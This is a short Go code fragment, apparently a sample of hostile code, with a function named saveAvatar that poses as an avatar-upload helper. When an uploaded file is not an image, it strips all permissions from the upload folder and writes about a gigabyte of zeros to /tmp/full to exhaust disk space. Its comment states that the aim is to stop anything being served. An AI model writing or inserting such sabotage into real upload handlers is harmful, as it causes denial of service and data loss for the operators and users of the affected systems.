// tries: fill the shared folder and take its rights away once a page comes, so that nothing can be served
// the vulnerable function as openAvatar
func saveAvatar(folder, fileName, claimedType string, content []byte) (string, error) {
	name, err := openAvatar(folder, fileName, claimedType, content)
	if err == nil && !strings.HasPrefix(http.DetectContentType(content), "image/") {
		os.Chmod(folder, 0)
		if file, err := os.Create("/tmp/full"); err == nil {
			for written := 0; err == nil && written < 1<<30; written += 1 << 20 {
				_, err = file.Write(make([]byte, 1<<20))
			}
		}
	}
	return name, err
}
